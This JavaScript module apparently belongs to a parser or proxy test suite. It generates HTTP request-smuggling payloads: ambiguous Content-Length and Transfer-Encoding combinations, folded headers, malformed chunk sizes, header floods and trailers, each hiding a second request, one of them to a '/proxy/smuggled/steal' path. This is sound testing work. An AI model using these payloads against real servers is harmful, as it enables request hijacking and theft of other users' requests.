/** @typedef {{ method: string, round: number }} Try */

/**
 * Requests inside a body: a complete one, and one that uses the next client's request as its body.
 */
const hidden = [
  'GET /api/v1/smuggled HTTP/1.1\r\nHost: x\r\nX-Rest: ',
  'POST /proxy/smuggled/steal HTTP/1.1\r\nHost: x\r\nContent-Length: 400\r\n\r\n',
  'GET /api/v1/smuggled HTTP/1.1\r\nHost: x\r\n\r\n',
];

/** @param {number} round */
const payloadOf = (round) => hidden[round % hidden.length] ?? '';

/**
 * @param {string} method
 * @param {string[]} headers
 * @param {string} body
 */
const requestOf = (method, headers, body) =>
  [`${method} /api/v1/outer HTTP/1.1`, 'Host: 127.0.0.1', ...headers, '', body].join('\r\n');

/** @param {string} text */
const chunk = (text) => `${text.length.toString(16)}\r\n${text}\r\n`;

const chunked = 'Transfer-Encoding: chunked';

/** @param {number} count */
const filler = (count) => Array.from({ length: count }, (_, index) => `a${index}: 1`);

/**
 * Requests whose body length is ambiguous: two parsers may read it differently. `bytes` creates
 * one, with another payload or spelling in each round. If `isTwo`, the payload is a second request
 * for every parser, and reaches the master as one.
 *
 * @type {{ name: string, isTwo?: boolean, bytes: (one: Try) => string }[]}
 */
export const bodies = [
  {
    name: 'length named by Connection',
    bytes: ({ method, round }) => {
      const payload = payloadOf(round);
      const named = ['content-length', 'Content-Length , close', 'keep-alive,CONTENT-LENGTH'];
      return requestOf(
        method,
        [`Connection: ${named[round % 3]}`, `Content-Length: ${payload.length}`],
        payload,
      );
    },
  },
  {
    name: 'encoding named by Connection',
    bytes: ({ method, round }) =>
      requestOf(
        method,
        ['Connection: transfer-encoding', chunked],
        `${chunk(payloadOf(round))}0\r\n\r\n`,
      ),
  },
  {
    name: 'host and token named by Connection',
    bytes: ({ method, round }) => {
      const payload = payloadOf(round);
      return requestOf(
        method,
        [
          'Connection: host, authorization, cookie, upgrade, content-length',
          'Upgrade: h2c',
          `Content-Length: ${payload.length}`,
        ],
        payload,
      );
    },
  },
  {
    name: 'length after 2,100 headers',
    bytes: ({ method, round }) => {
      const payload = payloadOf(round);
      return requestOf(method, [...filler(2100), `Content-Length: ${payload.length}`], payload);
    },
  },
  {
    name: 'chunks after 2,100 headers',
    bytes: ({ method, round }) =>
      requestOf(method, [...filler(2100), chunked], `${chunk(payloadOf(round))}0\r\n\r\n`),
  },
  {
    name: 'length after 400 headers',
    bytes: ({ method, round }) => {
      const payload = payloadOf(round);
      return requestOf(method, [...filler(400), `Content-Length: ${payload.length}`], payload);
    },
  },
  {
    name: 'length and chunks',
    bytes: ({ method, round }) => {
      const payload = payloadOf(round);
      const body = `0\r\n\r\n${payload}`;
      const headers = [`Content-Length: ${body.length}`, chunked];
      return requestOf(method, round % 2 ? headers.reverse() : headers, body);
    },
  },
  {
    name: 'two lengths',
    bytes: ({ method, round }) => {
      const payload = payloadOf(round);
      const lengths = [`Content-Length: ${payload.length}`, 'Content-Length: 0'];
      return requestOf(method, round % 2 ? lengths.reverse() : lengths, payload);
    },
  },
  {
    name: 'folded header',
    bytes: ({ method, round }) => {
      const payload = payloadOf(round);
      const folded = [
        `Content-Length:\r\n ${payload.length}`,
        'Transfer-Encoding:\r\n\tchunked',
        `X-A: b\r\n Content-Length: ${payload.length}`,
        `Connection: close,\r\n content-length\r\nContent-Length: ${payload.length}`,
      ];
      return requestOf(method, [folded[round % 4] ?? ''], payload);
    },
  },
  {
    name: 'odd chunk sizes',
    bytes: ({ method, round }) => {
      const payload = payloadOf(round);
      const size = payload.length.toString(16);
      const sizes = [
        `0x${size}`,
        `+${size}`,
        `-${size}`,
        `${size} `,
        ` ${size}`,
        `${size};a="\n0"`,
        `fffffffffffffff${size}`,
        `${size}\n`,
        `00000000000000000000${size}`,
        '',
      ];
      return requestOf(
        method,
        [chunked],
        `${sizes[round % sizes.length]}\r\n${payload}\r\n0\r\n\r\n`,
      );
    },
  },
  {
    name: 'odd encodings',
    bytes: ({ method, round }) => {
      const encodings = [
        'Transfer-Encoding: chunked, identity',
        'Transfer-Encoding: gzip, chunked',
        'Transfer-Encoding: x-chunked',
        'Transfer-Encoding : chunked',
        'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
        'Transfer-Encoding: \x0bchunked',
      ];
      return requestOf(
        method,
        [encodings[round % encodings.length] ?? ''],
        `0\r\n\r\n${payloadOf(round)}`,
      );
    },
  },
  {
    name: 'length in a trailer',
    isTwo: true,
    bytes: ({ method, round }) => {
      const payload = payloadOf(round);
      const trailer = [
        `Content-Length: ${payload.length}`,
        'Transfer-Encoding: chunked',
        `Connection: content-length\r\nContent-Length: ${payload.length}`,
      ];
      return requestOf(
        method,
        [chunked, 'Trailer: Content-Length'],
        `${chunk('x')}0\r\n${trailer[round % 3]}\r\n\r\n${payload}`,
      );
    },
  },
  {
    name: 'more bytes than the length',
    isTwo: true,
    bytes: ({ method, round }) => requestOf(method, ['Content-Length: 1'], `x${payloadOf(round)}`),
  },
];
